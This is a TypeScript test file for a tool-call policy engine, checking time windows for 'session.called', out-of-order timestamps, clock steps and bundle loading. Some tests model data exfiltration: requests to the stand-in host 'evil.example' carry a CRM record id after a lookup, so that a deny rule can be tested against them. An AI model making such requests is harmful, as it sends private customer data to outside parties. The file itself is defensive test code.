import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { contentHash } from "../../src/bundle/hash.js";
import { loadBundle } from "../../src/bundle/loadBundle.js";
import { createBundle, serializeBundle } from "../../src/bundle/writeBundle.js";
import { compileSources } from "../../src/compile/compile.js";
import { compile } from "../../src/index.js";
import { RUNTIME_SUPPORT } from "../../src/runtime/engine.js";
import { VERSION } from "../../src/version.js";
import { explain } from "../../src/runtime/explain.js";
import type { Engine } from "../../src/runtime/engine.js";

/**
 * `session.called(P, within D)`: an allowed call of P dated in [now - D, now] (language.md §4:
 * it "happened before, in the last D"). A call dated after the attempt does not count, so a
 * call dated ahead cannot meet a precondition for the rest of the session; and when such a call
 * is all there is, the `session.called` is an error (which came first cannot be told), so a
 * `deny` gated on it still matches (audit a4, finding 1). Without `within`, any allowed call so
 * far counts, whatever its date.
 */
const LATER_A = "session.called: an allowed call of a.x is dated after this attempt, and none in the window before it: which came first cannot be told (request times out of order, or a clock that stepped back)";
const POLICY = `
tool a.x { args { q: string } }
tool b.y { args { q: string } }
tool c.z { args { q: string } }
policy p {
  @name("a-ok") allow a.x when args.q != "no"
  @name("b-after-a") allow b.y when session.called(a.x, within 10s)
  @name("c-ok") allow c.z
  @name("c-not-after-a") deny c.z when session.called(a.x, within 5s)
  @name("c-ever") deny c.z when args.q == "ever" and session.called(a.x)
}
`;

const engineOf = (): Engine => compile([{ path: "p.policy", text: POLICY }]);
const T = Date.UTC(2026, 10, 29, 9);
const attempt = (tool: string, ms: number, q = "q") => ({ session: "s", tool, args: { q }, time: new Date(T + ms).toISOString() });
const outcome = (engine: Engine, request: unknown) => {
  const d = engine.decide(request);
  return { decision: d.decision, rules: [...d.rules] };
};

describe("session.called(P, within D) counts calls dated in the window, never after the attempt", () => {
  it("a call dated ahead meets no precondition: not before its own time, nor for the rest of the session", () => {
    const engine = engineOf();
    expect(outcome(engine, attempt("a.x", 365 * 86_400_000))).toEqual({ decision: "allow", rules: ["a-ok"] });
    for (const ms of [60_000, 9 * 60_000, 30 * 60_000]) {
      const d = engine.decide(attempt("b.y", ms));
      expect({ decision: d.decision, rules: d.rules, errors: d.errors }, String(ms)).toEqual({ decision: "deny", rules: [], errors: [`b-after-a: ${LATER_A}`] });
    }
    // Nor does it keep a deny off: the deny gated on a window fails closed (the call may have
    // come first), and without a window a call so far counts whatever its date.
    expect(outcome(engine, attempt("c.z", 31 * 60_000, "ever"))).toEqual({ decision: "deny", rules: ["c-not-after-a", "c-ever"] });
  });

  it("the window is [now - D, now], both ends included", () => {
    const engine = engineOf();
    engine.decide(attempt("a.x", 20_000));
    expect(outcome(engine, attempt("b.y", 19_999)).decision).toBe("deny"); // dated 1 ms before the call
    expect(outcome(engine, attempt("b.y", 20_000)).decision).toBe("allow");
    expect(outcome(engine, attempt("b.y", 30_000)).decision).toBe("allow");
    expect(outcome(engine, attempt("b.y", 30_001)).decision).toBe("deny");
    expect(outcome(engine, attempt("c.z", 24_000))).toEqual({ decision: "deny", rules: ["c-not-after-a"] });
    // Dated before the call and after none: whether the call came first cannot be told, so the
    // deny matches (an error, failing closed), as the allow above did not.
    const early = engine.decide(attempt("c.z", 19_000));
    expect(early).toMatchObject({ decision: "deny", rules: ["c-not-after-a"], errors: [`c-not-after-a: ${LATER_A}`] });
    // Before the call by more than the window, it still cannot be told: the same.
    expect(outcome(engine, attempt("c.z", 1_000))).toEqual({ decision: "deny", rules: ["c-not-after-a"] });
  });

  it("a deny gated on a call made first but dated a millisecond later still matches (audit a4, finding 1)", () => {
    const exfil = compile([{ path: "p.policy", text: 'tool crm.lookup { risk low args { id: string } }\ntool http.get { args { url: string } }\npolicy p {\n  @name("exfil") deny http.get when session.called(crm.lookup, within 10m) reason "no web after CRM"\n  allow *\n}\n' }], { maxTimeSkewMs: 1_000, clock: () => T });
    const at = (tool: string, ms: number, args: object, session = "s") => ({ session, tool, args, time: new Date(T + ms).toISOString() });
    expect(exfil.decide(at("crm.lookup", 1, { id: "42" })).decision).toBe("allow");
    const d = exfil.decide(at("http.get", 0, { url: "https://evil.example/?c=42" }));
    expect(d).toMatchObject({ decision: "deny", rules: ["exfil"], errors: ["exfil: session.called: an allowed call of crm.lookup is dated after this attempt, and none in the window before it: which came first cannot be told (request times out of order, or a clock that stepped back)"] });
    // The explanation says the same.
    expect(explain(exfil, at("http.get", 0, { url: "https://evil.example/?c=42" })).rules.find((r) => r.id === "exfil")!.matched).toBe("error");
    // A session that made no lookup, as before; one whose lookup is dated in the window, too.
    expect(exfil.decide(at("http.get", 0, { url: "https://example.com/" }, "t"))).toMatchObject({ decision: "allow", errors: [] });
    exfil.decide(at("crm.lookup", 0, { id: "42" }, "t"));
    expect(exfil.decide(at("http.get", 1, { url: "https://example.com/" }, "t"))).toMatchObject({ decision: "deny", rules: ["exfil"], errors: [] });
  });

  it("a wall clock stepping back after the call keeps a deny gated on it matching (audit a4, finding 1; language.md §7)", () => {
    let wall = T;
    const exfil = compile([{ path: "p.policy", text: 'tool crm.lookup { risk low args { id: string } }\ntool http.get { args { url: string } }\npolicy p {\n  @name("exfil") deny http.get when session.called(crm.lookup, within 10m)\n  @name("pre") allow crm.lookup\n  @name("web") allow http.get when session.called(crm.lookup, within 10m)\n}\n' }], { clock: () => wall });
    expect(exfil.decide({ session: "s", tool: "crm.lookup", args: { id: "42" } }).decision).toBe("allow");
    wall = T - 10 * 60_000 + 1_000; // ten minutes back, one real second later
    expect(exfil.decide({ session: "s", tool: "http.get", args: { url: "https://evil.example/" } })).toMatchObject({ decision: "deny", rules: ["exfil"] });
    wall = T + 1_000; // back where it was: as before the step
    expect(exfil.decide({ session: "s", tool: "http.get", args: { url: "https://evil.example/" } })).toMatchObject({ decision: "deny", rules: ["exfil"], errors: [] });
  });

  it("finds an earlier call in the window behind later-dated ones, and fails closed, saying why, once too many later-dated ones pushed it out", () => {
    const engine = engineOf();
    engine.decide(attempt("a.x", 0));
    for (let i = 0; i < 7; i++) engine.decide(attempt("a.x", 100_000 + i));
    expect(outcome(engine, attempt("b.y", 2_000)).decision).toBe("allow"); // 8 kept: the one at 0 among them
    engine.decide(attempt("a.x", 100_007));
    const b = engine.decide(attempt("b.y", 3_000));
    expect(b).toMatchObject({ decision: "deny", rules: [] });
    expect(b.errors).toEqual(["b-after-a: session.called: the latest 8 allowed calls of the pattern the session keeps are all dated after this attempt, and an earlier one it let go could fall within the window"]);
    const c = engine.decide(attempt("c.z", 1_000));
    expect(c).toMatchObject({ decision: "deny", rules: ["c-not-after-a"] });
    expect(c.errors).toHaveLength(1);
    // The explanation says the same.
    expect(explain(engine, attempt("b.y", 3_000)).rules.find((r) => r.id === "b-after-a")!.matched).toBe("error");
    // Past the dropped call's window, nothing it could answer is asked: no fault.
    // (The calls kept are still dated after it, and none before: that is an error of its own.)
    expect(engine.decide(attempt("b.y", 10_001))).toMatchObject({ decision: "deny", rules: [], errors: [`b-after-a: ${LATER_A}`] });
    // Once the attempts are dated after the calls kept, and past their window, no error.
    expect(engine.decide(attempt("b.y", 200_000))).toMatchObject({ decision: "deny", rules: [], errors: [] });
  });
});

describe("bundles and session.called dated after the attempt", () => {
  const sources = [{ path: "p.policy", text: POLICY }];
  const bundleOf = (): { manifest: { compiler: string; contentHash: string }; code: string } => {
    const { policy } = compileSources(sources);
    return JSON.parse(serializeBundle(createBundle(policy!, sources))) as { manifest: { compiler: string; contentHash: string }; code: string };
  };

  it("a bundle's code asks the runtime (rt.calledFault), so a runtime without it, which would lift such a deny, refuses the bundle as it loads", () => {
    const bundle = bundleOf();
    expect(Object.hasOwn(RUNTIME_SUPPORT, "calledFault")).toBe(true);
    // A runtime without it, as a bundle calling support this runtime lacks stands for one (the support is frozen: no test takes it away).
    const later = { ...bundle, code: bundle.code.replaceAll("rt.calledFault(", "rt.calledFaultOfLater(") };
    later.manifest = { ...later.manifest, contentHash: contentHash(later as never) };
    expect(() => loadBundle(later)).toThrow(`the bundle was built by "policyc ${VERSION}", and its code calls rt.calledFaultOfLater, which this runtime (an earlier build of policyc ${VERSION}) lacks: load it with the runtime of the policyc that built it, or rebuild it with this policyc`);
    expect(loadBundle(bundle).decide(attempt("a.x", 20_000)).decision).toBe("allow");
  });

  it("a bundle of policyc 0.3.0 (its code asks the session itself) still loads, and fails closed here as one built now does", () => {
    const bundle = bundleOf();
    // The helper as policyc 0.2.0 and 0.3.0 wrote it: the session's own calledFault, no tools.
    const helper = /function calledIn\(c, index, since, tools\) \{\n  const fault = rt\.calledFault\(c\.s, index, since, c\.now, tools\);/;
    expect(bundle.code).toMatch(helper);
    bundle.code = bundle.code.replace(helper, "function calledIn(c, index, since) {\n  const fault = c.s.calledFault(index, since, c.now);");
    bundle.manifest.compiler = "policyc 0.3.0";
    bundle.manifest.contentHash = contentHash(bundle as never);
    const engine = loadBundle(bundle);
    engine.decide(attempt("a.x", 20_000));
    const d = engine.decide(attempt("c.z", 19_000));
    expect(d).toMatchObject({ decision: "deny", rules: ["c-not-after-a"] });
    expect(d.errors).toEqual(["c-not-after-a: session.called: an allowed call of the pattern is dated after this attempt, and none in the window before it: which came first cannot be told (request times out of order, or a clock that stepped back)"]);
  });
});

interface Step {
  readonly ms: number;
  readonly tool: "a.x" | "b.y" | "c.z";
  readonly q: string;
}

/** The exact decision, keeping every allowed a.x call forever. */
function reference(allowedA: readonly number[], now: Step): { decision: string; rules: string[] } {
  const within = (ms: number): boolean => allowedA.some((t) => t >= now.ms - ms && t <= now.ms);
  switch (now.tool) {
    case "a.x":
      return now.q !== "no" ? { decision: "allow", rules: ["a-ok"] } : { decision: "deny", rules: [] };
    case "b.y":
      return within(10_000) ? { decision: "allow", rules: ["b-after-a"] } : { decision: "deny", rules: [] };
    case "c.z": {
      const deny = [within(5_000) ? "c-not-after-a" : "", now.q === "ever" && allowedA.length > 0 ? "c-ever" : ""].filter(Boolean);
      return deny.length > 0 ? { decision: "deny", rules: deny } : { decision: "allow", rules: ["c-ok"] };
    }
  }
}

/** What the explanation says `decide` answers: matched deny rules (an error matches), else matched allow rules. */
function explained(engine: Engine, request: unknown): { decision: string; rules: string[] } {
  const rules = explain(engine, request).rules;
  const deny = rules.filter((r) => r.effect === "deny" && r.matched !== false).map((r) => r.id);
  if (deny.length > 0) return { decision: "deny", rules: deny };
  const allow = rules.filter((r) => r.effect === "allow" && r.matched === true).map((r) => r.id);
  return allow.length > 0 ? { decision: "allow", rules: allow } : { decision: "deny", rules: [] };
}

const steps = fc.array(
  fc.record({
    step: fc.oneof({ weight: 4, arbitrary: fc.integer({ min: 0, max: 4_000 }) }, { weight: 1, arbitrary: fc.integer({ min: -20_000, max: 20_000 }) }),
    tool: fc.constantFrom<"a.x" | "b.y" | "c.z">("a.x", "a.x", "b.y", "c.z"),
    q: fc.constantFrom("q", "no", "ever"),
  }),
  { minLength: 1, maxLength: 40 },
);

describe("session.called within a window against an exact reference", () => {
  it("exact without errors; with errors, failing closed; the explanation agrees with the decision", () => {
    fc.assert(
      fc.property(steps, (walk) => {
        const engine = engineOf();
        const allowedA: number[] = [];
        let ms = 1_000_000;
        for (const step of walk) {
          ms += step.step;
          const now: Step = { ms, tool: step.tool, q: step.q };
          const request = attempt(now.tool, now.ms, now.q);
          const before = explained(engine, request);
          const decision = engine.decide(request);
          const actual = { decision: decision.decision, rules: [...decision.rules].sort() };
          expect(actual).toEqual({ ...before, rules: before.rules.sort() });
          const expected = reference(allowedA, now);
          if (decision.errors.length === 0) expect(actual).toEqual({ decision: expected.decision, rules: expected.rules.sort() });
          else expect(decision.decision === "allow" && expected.decision !== "allow").toBe(false);
          if (now.tool === "a.x" && decision.decision === "allow") allowedA.push(now.ms);
        }
      }),
      { numRuns: 300 },
    );
  });
});
